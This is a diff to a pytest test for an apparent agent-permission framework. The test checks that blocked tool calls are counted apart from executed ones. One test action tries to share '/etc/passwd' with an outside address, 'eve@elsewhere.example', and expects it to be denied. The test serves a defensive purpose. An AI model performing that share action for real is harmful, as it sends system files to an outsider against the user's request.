@@ -6,7 +6,7 @@ import json
 from collections import Counter
 
 import pytest
-from score_world import act, opened, tool
+from score_world import act, expose, opened, tool
 
 from halo_core.errors import Denied
 from halo_core.model import ActionKind, Constraint
@@ -27,9 +27,12 @@ def reach(home):
 
 
 def test_what_ran_counts_as_used_and_what_was_stopped_is_told_apart(scored):
+    request = "share report 1 with the team"
+    with opened(scored) as halo, halo.session("new", request=request):
+        expose(halo)
     before = reach(scored)
-    assert set(before["used"]["tool_call"]) == {"lookup", "share"}
-    with opened(scored) as halo, halo.session("new", request="share report 1 with the team"), pytest.raises(Denied):
+    assert set(before["used"]["tool_call"]) == {"inbox", "lookup", "share"}
+    with opened(scored) as halo, halo.session("new", request=request), pytest.raises(Denied):
         act(halo, "share", to="eve@elsewhere.example", file="/etc/passwd")
     after = reach(scored)
     assert after["used"] == before["used"]
